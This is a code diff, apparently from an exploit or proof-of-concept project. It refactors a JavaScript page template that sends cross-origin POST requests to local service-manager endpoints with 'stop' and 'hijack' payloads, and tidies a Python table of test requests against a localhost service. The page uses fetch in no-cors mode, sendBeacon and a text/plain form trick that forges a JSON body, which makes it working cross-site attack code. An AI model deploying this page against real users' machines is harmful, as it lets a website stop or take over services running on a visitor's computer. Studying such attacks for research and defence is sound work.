@@ -42,12 +42,10 @@ const attempts = [["{base}/services", '{stop}'], ["{base}/svcmgr", '{hijack}']];
   for (const [index, [url, body]] of attempts.entries()) {{
     await fetch(url, {{mode: "no-cors", method: "POST", body}}).catch(() => null);
     navigator.sendBeacon(url, body);
-    const form = document.createElement("form");
-    Object.assign(form, {{method: "POST", enctype: "text/plain", action: url,
-                          target: "f" + index}});
-    const field = document.createElement("input");
-    [field.name, field.value] = [body.slice(0, -1) + ', "x": "', '"}}'];
-    form.append(field);
+    const form = Object.assign(document.createElement("form"), {{
+      method: "POST", enctype: "text/plain", action: url, target: "f" + index}});
+    form.append(Object.assign(document.createElement("input"), {{
+      name: body.slice(0, -1) + ', "x": "', value: '"}}'}}));
     document.body.append(form);
     form.submit();
   }}
@@ -132,8 +130,7 @@ def exchange(port, head, body=b"", expect_continue=False):
 
 LOCAL = [("GET", SVCMGR + "?method=get_info&name=recStreamService", b"",
           b'{ "return": 0, "name": "recStreamService", "ip": "127.0.0.1", "port": 7000 }'),
-         ("POST", SVCMGR, b'{"method": "register", "name": "local", "ip": "127.0.0.1", "port": 5}',
-          OK),
+         ("POST", SVCMGR, b'{"method": "register", "name": "local", "ip": "127.0.0.1", "port": 5}', OK),
          ("DELETE", SVCMGR + "?method=unregister&name=local", b"", OK),
          ("POST", SERVICES, b'{"method": "none"}', b'{ "return": -1 }'),
          ("GET", WEB + "/own.html", b"", OWN_PAGE.encode())]
